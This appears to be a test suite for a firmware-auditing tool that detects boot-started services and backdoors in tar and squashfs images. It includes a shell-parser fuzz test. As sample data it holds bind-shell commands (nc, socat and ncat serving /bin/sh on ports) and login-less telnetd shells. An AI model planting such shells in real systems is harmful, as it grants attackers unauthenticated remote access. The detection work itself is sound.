// The services analyzer on real tar and squashfs images: what starts at boot and how, from
// inittab, rcS, rc.d S-links, rc.local, procd with UCI, systemd units (sockets, templates, masks),
// inetd and xinetd; commented-out lines and disabled scripts never count as started. Then the shell
// reader on its own, and hostile images and scripts that must not crash or hang it.
import assert from "node:assert/strict";
import { readFileSync } from "node:fs";
import { describe, it } from "node:test";
import { recognize, unwrap } from "../../src/collect/firmware/analyzers/services/classify.js";
import { servicesAnalyzer } from "../../src/collect/firmware/analyzers/services/index.js";
import { parseShell } from "../../src/collect/firmware/analyzers/services/shell.js";
import { LimitError } from "../../src/collect/firmware/limits.js";
import { FormatError } from "../../src/collect/firmware/source.js";
import { squashfsImage, tarImage, writeTree, type Tree } from "../helpers/fwimage.js";
import { analyzeBytes, INETD, OPENWRT, SYSTEMD, WEAK, without } from "./boot-trees.js";

const S = "named S<nn> in /etc/init.d, run in order by rcS";
const services = (bytes: Uint8Array) => analyzeBytes(bytes, [servicesAnalyzer]);
const tarOf = (tree: Tree) => readFileSync(tarImage(writeTree(tree)));
const sqfsOf = (tree: Tree) => readFileSync(squashfsImage(writeTree(tree)));

const ssh = (o: Partial<Record<string, unknown>>) => ({
  program: "dropbear",
  port: 22,
  passwordAuth: true,
  rootPasswordAuth: true,
  rootLogin: true,
  blankPasswords: false,
  rootPasswordLogin: true,
  emptyPasswords: false,
  ...o,
});

const WEAK_SERVICES = [
  {
    location: "/etc/init.d/S40dropbear:2",
    data: {
      service: "dropbear",
      command: "/usr/sbin/dropbear -p 22 -R",
      startedBy: "init.d",
      enabled: true,
      detail: ssh({ via: S }),
    },
  },
  {
    location: "/etc/init.d/S45snmpd:2",
    data: {
      service: "snmpd",
      command: "snmpd -c /etc/snmp/snmpd.conf",
      startedBy: "init.d",
      enabled: true,
      detail: { program: "snmpd", via: S },
    },
  },
  {
    location: "/etc/init.d/S60upnp:2",
    data: {
      service: "upnpd",
      command: "miniupnpd -f /etc/miniupnpd.conf",
      startedBy: "init.d",
      enabled: true,
      detail: { program: "miniupnpd", via: S },
    },
  },
  {
    // Present but linked from no rc directory: reported, not started.
    location: "/etc/init.d/ftp:3",
    data: {
      service: "ftpd",
      command: "vsftpd /etc/vsftpd.conf",
      startedBy: "init.d",
      enabled: false,
      detail: {
        program: "vsftpd",
        configPath: "/etc/vsftpd.conf",
        anonymous: true,
        config: "/etc/vsftpd.conf:1",
      },
    },
  },
  {
    location: "/etc/init.d/telnet:4",
    data: {
      service: "telnetd",
      command: "/usr/sbin/telnetd -p 23 -l /bin/login",
      startedBy: "init.d",
      enabled: true,
      detail: { program: "telnetd", port: 23, login: "/bin/login", via: "/etc/rc.d/S50telnet" },
    },
  },
  {
    location: "/etc/inittab:3",
    data: {
      service: "telnetd",
      command: "/usr/sbin/telnetd -F -l /bin/sh",
      startedBy: "inittab",
      enabled: true,
      detail: { program: "telnetd", port: 23, login: "/bin/sh", noLogin: true, backdoor: true },
    },
  },
  {
    location: "/etc/inittab:5",
    data: {
      service: "console-login",
      command: "/sbin/getty -L ttyS0 115200 vt100",
      startedBy: "inittab",
      enabled: true,
      detail: { tty: "ttyS0", program: "getty", action: "respawn" },
    },
  },
  {
    location: "/etc/inittab:6",
    data: {
      service: "console-shell",
      command: "/bin/sh",
      startedBy: "inittab",
      enabled: true,
      detail: { tty: "ttyS1", program: "sh", noLogin: true, action: "askfirst" },
    },
  },
  {
    location: "/etc/rc.local:3",
    data: {
      service: "debug-shell",
      command: "nc -l -p 4444 -e /bin/sh",
      startedBy: "rc.local",
      enabled: true,
      detail: {
        program: "nc",
        port: 4444,
        exec: "/bin/sh",
        shell: true,
        via: "rc.local runs at the end of boot",
      },
    },
  },
];

describe("services analyzer", () => {
  const weakTar = tarOf(WEAK);
  it("finds what a BusyBox image starts at boot (tar), and not the commented-out or disabled ones", () => {
    assert.deepEqual(services(weakTar), WEAK_SERVICES);
  });

  it("finds the same in a squashfs image of the same tree", () => {
    assert.deepEqual(services(sqfsOf(WEAK)), WEAK_SERVICES);
  });

  it("reads OpenWrt: procd commands, UCI dropbear and uhttpd settings, rc.d links, ttylogin", () => {
    assert.deepEqual(services(sqfsOf(OPENWRT)), [
      {
        location: "/etc/init.d/dropbear:8",
        data: {
          service: "dropbear",
          command: "/usr/sbin/dropbear -F -P /var/run/dropbear.pid",
          startedBy: "procd",
          enabled: true,
          detail: ssh({
            passwordAuth: false,
            rootPasswordAuth: false,
            rootPasswordLogin: false,
            via: "/etc/rc.d/S50dropbear",
            config: "/etc/config/dropbear:1",
          }),
        },
      },
      {
        location: "/etc/init.d/telnet:6",
        data: {
          service: "telnetd",
          command: "/usr/sbin/telnetd -F -l /bin/login.sh",
          startedBy: "procd",
          enabled: false,
          detail: { program: "telnetd", port: 23, login: "/bin/login.sh" },
        },
      },
      {
        location: "/etc/init.d/uhttpd:7",
        data: {
          service: "uhttpd",
          command: "/usr/sbin/uhttpd -f -h /www",
          startedBy: "procd",
          enabled: true,
          detail: {
            program: "uhttpd",
            via: "/etc/rc.d/S50uhttpd",
            listenHttp: ["0.0.0.0:80"],
            listenHttps: ["0.0.0.0:443"],
            redirectHttps: true,
            config: "/etc/config/uhttpd:1",
          },
        },
      },
      {
        location: "/etc/inittab:3",
        data: {
          service: "console-login",
          command: "/usr/libexec/login.sh",
          startedBy: "inittab",
          enabled: true,
          detail: { tty: "console", program: "login.sh", action: "askconsole" },
        },
      },
    ]);
  });

  it("OpenWrt's console has no login unless ttylogin is 1, and default dropbear takes root passwords", () => {
    const tree: Tree = { ...OPENWRT, "etc/config/system": "config system\n\toption hostname 'acme'\n" };
    tree["etc/config/dropbear"] =
      "config dropbear\n\toption Port '2222'\nconfig dropbear\n\toption enable '0'\n";
    const got = services(tarOf(tree));
    const consoleUse = got.find((s) => s.location === "/etc/inittab:3")!.data;
    assert.deepEqual(consoleUse, {
      service: "console-shell",
      command: "/usr/libexec/login.sh",
      startedBy: "inittab",
      enabled: true,
      detail: {
        tty: "console",
        program: "login.sh",
        noLogin: true,
        why: "ttylogin is not 1 in /etc/config/system",
        action: "askconsole",
      },
    });
    const dropbear = got
      .filter((s) => (s.data as { service: string }).service === "dropbear")
      .map((s) => s.data);
    assert.deepEqual(
      dropbear.map((d) => {
        const x = d as { enabled: boolean; detail: Record<string, unknown> };
        return [x.enabled, x.detail.port, x.detail.rootPasswordLogin, x.detail.config];
      }),
      [
        [true, 2222, true, "/etc/config/dropbear:1"],
        [false, 22, true, "/etc/config/dropbear:3"],
      ],
    );
  });

  it("reads systemd: enabled, socket-activated, template instances, masked and disabled units", () => {
    assert.deepEqual(services(tarOf(SYSTEMD)), [
      {
        location: "/lib/systemd/system/debug-shell.service:2",
        data: {
          service: "console-shell",
          command: "/bin/sh",
          startedBy: "systemd",
          enabled: false, // masked: linked to /dev/null in /etc/systemd/system
          detail: { tty: "console", program: "sh", noLogin: true },
        },
      },
      {
        location: "/lib/systemd/system/serial-getty@.service:2",
        data: {
          service: "console-shell",
          command: "/sbin/agetty --autologin root --keep-baud 115200 ttyS0 $TERM",
          startedBy: "systemd",
          enabled: true,
          detail: { tty: "ttyS0", program: "agetty", autologin: "root" },
        },
      },
      {
        location: "/lib/systemd/system/ssh.service:4",
        data: {
          service: "sshd",
          command: "/usr/sbin/sshd -D $SSHD_OPTS",
          startedBy: "systemd",
          enabled: true,
          detail: {
            ...ssh({ program: "sshd" }),
            via: "/etc/systemd/system/multi-user.target.wants/ssh.service",
            permitRootLogin: "yes",
            config: "/etc/ssh/sshd_config",
          },
        },
      },
      {
        location: "/lib/systemd/system/telnet@.service:2",
        data: {
          service: "telnetd",
          command: "/usr/sbin/in.telnetd",
          startedBy: "systemd",
          enabled: true,
          detail: { program: "in.telnetd", port: 23, via: "telnet.socket (socket activation)" },
        },
      },
      {
        location: "/lib/systemd/system/tftpd.service:2",
        data: {
          service: "tftpd",
          command: "/usr/sbin/in.tftpd -L -s /srv/tftp",
          startedBy: "systemd",
          enabled: false,
          detail: { program: "in.tftpd" },
        },
      },
    ]);
  });

  it("reads inetd (live only when inetd starts), xinetd, and debug daemons behind wrappers", () => {
    const expected = [
      {
        location: "/etc/inetd.conf:1",
        data: {
          service: "telnetd",
          command: "/usr/sbin/telnetd -i",
          startedBy: "inetd",
          enabled: true,
          detail: { program: "telnetd", port: 23, name: "telnet" },
        },
      },
      {
        location: "/etc/inetd.conf:3",
        data: {
          service: "tftpd",
          command: "in.tftpd -s /tftpboot",
          startedBy: "inetd",
          enabled: true,
          detail: { program: "in.tftpd", name: "tftp", port: 69 },
        },
      },
      {
        location: "/etc/init.d/S30inetd:2",
        data: {
          service: "inetd",
          command: "/usr/sbin/inetd /etc/inetd.conf",
          startedBy: "init.d",
          enabled: true,
          detail: { program: "inetd", via: S },
        },
      },
      {
        location: "/etc/init.d/S70gdb:3",
        data: {
          service: "gdbserver",
          command: "gdbserver --multi 0.0.0.0:2345",
          startedBy: "init.d",
          enabled: true,
          detail: { program: "gdbserver", port: 2345, via: S },
        },
      },
      {
        location: "/etc/init.d/S70gdb:4",
        data: {
          service: "debug-shell",
          command: "socat TCP-LISTEN:5555,fork EXEC:/bin/sh",
          startedBy: "init.d",
          enabled: true,
          detail: { program: "socat", port: 5555, exec: "EXEC:/bin/sh", via: S },
        },
      },
      {
        location: "/etc/init.d/S80adb:2",
        data: {
          service: "adbd",
          command: "/sbin/adbd",
          startedBy: "init.d",
          enabled: true,
          detail: { program: "adbd", via: S },
        },
      },
      {
        location: "/etc/xinetd.d/rsh:1",
        data: {
          service: "rshd",
          command: "/usr/sbin/in.rshd",
          startedBy: "xinetd",
          enabled: false,
          detail: {
            program: "in.rshd",
            name: "shell",
            port: 514,
            note: "xinetd itself is not started at boot",
          },
        },
      },
    ];
    assert.deepEqual(services(tarOf(INETD)), expected);
    // Without the script that starts inetd, its services are present but not started.
    const withoutInetd = without(INETD, "etc/init.d/S30inetd");
    const telnet = services(tarOf(withoutInetd)).find((s) => s.location === "/etc/inetd.conf:1")!.data;
    assert.deepEqual(telnet, {
      service: "telnetd",
      command: "/usr/sbin/telnetd -i",
      startedBy: "inetd",
      enabled: false,
      detail: { program: "telnetd", port: 23, name: "telnet", note: "inetd itself is not started at boot" },
    });
  });

  it("follows scripts called from boot scripts, and getty/login variants that skip the password", () => {
    const tree: Tree = {
      "etc/inittab": [
        "::sysinit:/bin/sh /etc/rcS",
        "ttyS0::respawn:/sbin/getty -n -l /bin/ash 115200 ttyS0",
        "1:2345:respawn:/bin/login -f root",
        "T0:06:respawn:/bin/sh",
        "",
      ].join("\n"),
      "etc/rcS": { content: "#!/bin/sh\n/usr/bin/start_app.sh &\n/etc/init.d/ftpd stop\n", mode: 0o755 },
      "usr/bin/start_app.sh": {
        content: '#!/bin/sh\nexec sh -c "telnetd -p 2323; utelnetd -l /bin/sh"\n',
        mode: 0o755,
      },
      "etc/init.d/ftpd": { content: "#!/bin/sh\ntcpsvd -vE 0.0.0.0 21 ftpd -w /pub\n", mode: 0o755 },
    };
    assert.deepEqual(
      services(tarOf(tree)).map((s) => [
        s.location,
        (s.data as { service: string }).service,
        (s.data as { enabled: boolean }).enabled,
        (s.data as { detail: unknown }).detail,
      ]),
      [
        ["/etc/init.d/ftpd:2", "ftpd", false, { program: "ftpd", writable: true, port: 21 }],
        [
          "/etc/inittab:2",
          "console-shell",
          true,
          { tty: "ttyS0", program: "getty", login: "/bin/ash", noLogin: true, action: "respawn" },
        ],
        [
          "/etc/inittab:3",
          "console-shell",
          true,
          { tty: "console", program: "login", autologin: "root", action: "respawn" },
        ],
        [
          "/usr/bin/start_app.sh:2",
          "telnetd",
          true,
          { program: "telnetd", port: 2323, backdoor: true, via: "/etc/rcS:2" },
        ],
        [
          "/usr/bin/start_app.sh:2",
          "telnetd",
          true,
          {
            program: "utelnetd",
            port: 23,
            login: "/bin/sh",
            noLogin: true,
            backdoor: true,
            via: "/etc/rcS:2",
          },
        ],
      ],
    );
  });

  it("reports nothing for an image without any boot configuration", () => {
    assert.deepEqual(services(tarOf({ "etc/passwd": "root:x:0:0::/root:/bin/sh\n" })), []);
  });
});

describe("shell reader", () => {
  const cmds = (text: string) => parseShell(text).map((c) => [c.line, c.words.join(" ")]);

  it("drops comments, here-documents, keywords, case patterns and redirections", () => {
    const script = [
      "#!/bin/sh", // 1
      'echo "# not a comment" # a comment', // 2
      "cat > /tmp/x.conf <<EOF", // 3
      "telnetd -l /bin/sh", // 4: inside the here-document
      "EOF", // 5
      'case "$1" in', // 6
      "  telnetd|start) dropbear -p 22 2>&1 >/dev/null ;;", // 7
      "esac", // 8
      "if [ -x /bin/x ]; then /bin/x --go; fi", // 9
      "start() {", // 10
      "  nc -l \\", // 11
      "    -p 4444", // 12
      "}", // 13
    ].join("\n");
    assert.deepEqual(cmds(script), [
      [2, "echo # not a comment"],
      [3, "cat"],
      [7, "dropbear -p 22"],
      [9, "[ -x /bin/x ]"],
      [9, "/bin/x --go"],
      [11, "nc -l -p 4444"],
    ]);
  });

  it("expands variables assigned earlier, with defaults, and leaves unknown ones as written", () => {
    const script = 'D=/usr/sbin/telnetd\nexport ARGS="-l /bin/sh"\n$D $ARGS -p ${PORT:-23} $UNKNOWN\n';
    assert.deepEqual(cmds(script), [[3, "/usr/sbin/telnetd -l /bin/sh -p 23 $UNKNOWN"]]);
    const [inv] = unwrap(parseShell(script)[0]!.words);
    assert.deepEqual(recognize(inv!), {
      service: "telnetd",
      detail: { program: "telnetd", port: 23, login: "/bin/sh", noLogin: true, backdoor: true },
    });
  });

  it("recognises shells served on ports however they are spelled", () => {
    const rec = (line: string) =>
      parseShell(line).flatMap((c) => unwrap(c.words).map((i) => recognize(i, c.text)));
    assert.deepEqual(rec("busybox nc -lp 31337 -e /bin/ash"), [
      { service: "debug-shell", detail: { program: "nc", port: 31337, exec: "/bin/ash", shell: true } },
    ]);
    assert.deepEqual(rec("nc -lk 4000 | /bin/sh 2>&1 | nc 10.0.0.1 4001"), [
      {
        service: "debug-shell",
        detail: { program: "nc", port: 4000, exec: "piped to a shell", shell: true },
      },
      undefined,
      undefined,
    ]);
    assert.deepEqual(rec("ncat --listen 7000 --exec /bin/bash"), [
      { service: "debug-shell", detail: { program: "ncat", port: 7000, exec: "/bin/bash", shell: true } },
    ]);
    assert.deepEqual(rec("nc -l -p 5000 > /tmp/fw.bin"), [
      { service: "listener", detail: { program: "nc", port: 5000 } },
    ]);
    assert.deepEqual(rec("nc 10.0.0.1 80"), [undefined]);
    assert.deepEqual(rec("start-stop-daemon -K -x /usr/sbin/telnetd"), []);
    assert.deepEqual(rec("killall telnetd"), [undefined]);
  });

  it("is linear on hostile scripts: huge lines, unterminated quotes, deep parentheses", () => {
    const started = Date.now();
    const hostile = [
      "x".repeat(200_000),
      "'unterminated " + "a ".repeat(50_000),
      "$(".repeat(20_000) + "telnetd",
      "\\\n".repeat(5_000) + "telnetd",
      "${".repeat(10_000),
      "cat <<",
      "((((((((((((".repeat(2_000),
    ].join("\n");
    const out = parseShell(hostile);
    assert.ok(Array.isArray(out));
    assert.ok(Date.now() - started < 3000, `took ${Date.now() - started} ms`);
  });
});

/** mulberry32: the same mutations every run. */
function prng(seed: number): () => number {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 2 ** 32;
  };
}

describe("services analyzer on hostile input", () => {
  it("survives truncated images, keeping what it could read", () => {
    const tar = tarOf(WEAK);
    for (const cut of [100, 512, 2048, Math.floor(tar.length / 2), tar.length - 700]) {
      const got = services(tar.subarray(0, cut));
      assert.ok(got.length <= WEAK_SERVICES.length + 2, `cut at ${cut}`);
    }
  });

  it("survives a few hundred mutated images and scripts (no crash, no hang)", () => {
    const next = prng(42);
    const images = [tarOf(WEAK), sqfsOf(OPENWRT)];
    const started = Date.now();
    for (let i = 0; i < 300; i++) {
      const img = Buffer.from(images[i % 2]!);
      const flips = 1 + Math.floor(next() * 16);
      for (let k = 0; k < flips; k++) img[Math.floor(next() * img.length)] = Math.floor(next() * 256);
      try {
        services(img);
      } catch (e) {
        assert.ok(e instanceof FormatError || e instanceof LimitError, `iteration ${i}: ${String(e)}`);
      }
    }
    const words = [
      "telnetd",
      "-l",
      "/bin/sh",
      "nc",
      "-e",
      "'",
      '"',
      "$(",
      "<<",
      ";;",
      ")",
      "(",
      "|",
      "&",
      "\\",
      "${X:-",
      "sh -c",
    ];
    for (let i = 0; i < 300; i++) {
      const n = Math.floor(next() * 40);
      const line = Array.from({ length: n }, () => words[Math.floor(next() * words.length)]).join(
        next() < 0.5 ? " " : "",
      );
      for (const c of parseShell(line)) for (const inv of unwrap(c.words)) recognize(inv, c.text);
    }
    assert.ok(Date.now() - started < 15_000);
  });
});
